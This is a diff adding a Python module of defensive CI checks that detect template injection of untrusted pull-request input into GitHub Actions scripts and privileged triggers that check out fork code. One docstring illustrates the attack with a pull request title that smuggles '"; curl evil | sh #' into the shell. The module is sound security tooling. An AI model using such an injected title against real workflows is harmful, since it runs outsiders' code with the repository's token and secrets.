@@ -1,0 +1,139 @@
+"""CI: dangerous GitHub Actions patterns (after zizmor and OpenSSF Scorecard).
+
+A workflow runs with the repository's token and secrets. Text an outsider
+writes (a pull request's title, a branch name, a comment) must never become
+shell code, and code from a fork must never run where the secrets are.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from typing import Any
+
+from mlops_new.standards.ci import CI, triggers
+from mlops_new.standards.inputs import Repo, mapping, steps
+from mlops_new.standards.model import Check, Fail, NotApplicable, Outcome, Severity
+
+_EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
+_UNTRUSTED = re.compile(
+    r"github\.head_ref|github\.event\.[\w.*\[\]'\"-]*?"
+    r"\b(title|body|message|head_branch|head_ref|page_name|label|email|author\.name|head\.ref"
+    r"|head\.repo\.default_branch)\b"
+)
+"""Contexts an outsider controls (GitHub Security Lab's list): titles, bodies, commit
+messages, branch names, labels, author names and e-mails."""
+_PRIVILEGED = ("pull_request_target", "workflow_run")
+_FORK_CODE = re.compile(
+    r"github\.event\.pull_request\.head|github\.head_ref|github\.event\.workflow_run\.head"
+    r"|refs/pull/|github\.event\.number|github\.event\.pull_request\.merge_commit_sha"
+)
+"""A checkout ``ref:``/``repository:`` that names the pull request's (or fork's) code."""
+
+
+def _sources(repo: Repo) -> Iterator[tuple[str, dict[str, Any]]]:
+    """Workflows and local composite actions, each with its jobs (an action: one)."""
+    yield from repo.github_workflows.items()
+    for name, action in repo.composite_actions.items():
+        yield name, {"jobs": {"action": mapping(action.get("runs"))}}
+
+
+def _scripts(data: dict[str, Any]) -> Iterator[str]:
+    """The shell of every ``run:`` and the JavaScript of every ``actions/github-script``."""
+    for job in mapping(data.get("jobs")).values():
+        for step in steps(job):
+            if isinstance(step.get("run"), str):
+                yield step["run"]
+            if str(step.get("uses", "")).startswith("actions/github-script@"):
+                script = mapping(step.get("with")).get("script")
+                if isinstance(script, str):
+                    yield script
+
+
+class CI007(CI):
+    """`${{ github.event.pull_request.title }}` (a branch name, a comment, a commit message)
+    in a `run:` script is pasted into the shell before it runs: a pull request titled
+    ``"; curl evil | sh #`` runs its code with the workflow's token and secrets. Pass such
+    values through `env:` and use `"$TITLE"`. Workflows, local composite actions and
+    `actions/github-script` scripts are read.
+    """
+
+    applies = "the repository has GitHub Actions workflows"
+    id = "CI007"
+    severity = Severity.error
+    title = "No template injection of untrusted input in workflow scripts"
+    fix = (
+        "Move the expression into the step's `env:` (`TITLE: ${{ github.event.pull_request."
+        'title }}`) and use `"$TITLE"` in the script.'
+    )
+
+    def check(self, repo: Repo) -> Outcome:
+        if not (repo.github_workflows or repo.composite_actions):
+            return NotApplicable("no GitHub Actions workflow")
+        found = [
+            (name, expression.strip())
+            for name, data in _sources(repo)
+            for script in _scripts(data)
+            for expression in _EXPRESSION.findall(script)
+            if _UNTRUSTED.search(expression)
+        ]
+        if not found:
+            return True
+        shown = sorted({f"`${{{{ {e} }}}}` ({name})" for name, e in found})
+        name, expression = found[0]
+        line = repo.line_of(name, re.escape(expression))
+        return Fail(f"Untrusted input in scripts: {', '.join(shown[:5])}.", name, line)
+
+
+class CI008(CI):
+    """`pull_request_target` and `workflow_run` workflows run with the base repository's
+    secrets and a write token, also for pull requests from forks. Checking out the pull
+    request's code there (`ref: ${{ github.event.pull_request.head.sha }}`) and building or
+    testing it hands both to whoever opened the pull request ("pwn request").
+    """
+
+    applies = "the repository has GitHub Actions workflows"
+    id = "CI008"
+    severity = Severity.error
+    title = "Privileged triggers do not check out pull requests' code"
+    fix = (
+        "Run untrusted code under `pull_request` (no secrets, read-only token); keep "
+        "`pull_request_target`/`workflow_run` for steps that only label or comment, without "
+        "checking out the pull request's head."
+    )
+
+    def check(self, repo: Repo) -> Outcome:
+        if not repo.github_workflows:
+            return NotApplicable("no GitHub Actions workflow")
+        bad = [
+            (name, event, ref)
+            for name, workflow in repo.github_workflows.items()
+            for event in _PRIVILEGED
+            if event in triggers(workflow)
+            for ref in _fork_checkouts(workflow)
+        ]
+        if not bad:
+            return True
+        name, event, ref = bad[0]
+        line = repo.line_of(name, re.escape(ref)) or repo.line_of(name, event)
+        shown = ", ".join(sorted({f"`{n}` ({e})" for n, e, _ in bad}))
+        return Fail(f"The pull request's code is checked out in {shown}: `{ref}`.", name, line)
+
+
+def _fork_checkouts(workflow: dict[str, Any]) -> list[str]:
+    """The ``ref``/``repository`` of each checkout that fetches a pull request's code."""
+    found: list[str] = []
+    for job in mapping(workflow.get("jobs")).values():
+        for step in steps(job):
+            if not str(step.get("uses", "")).startswith("actions/checkout@"):
+                continue
+            options = mapping(step.get("with"))
+            found += [
+                str(options[key])
+                for key in ("ref", "repository")
+                if _FORK_CODE.search(str(options.get(key, "")))
+            ]
+    return found
+
+
+CHECKS: tuple[type[Check], ...] = (CI007, CI008)
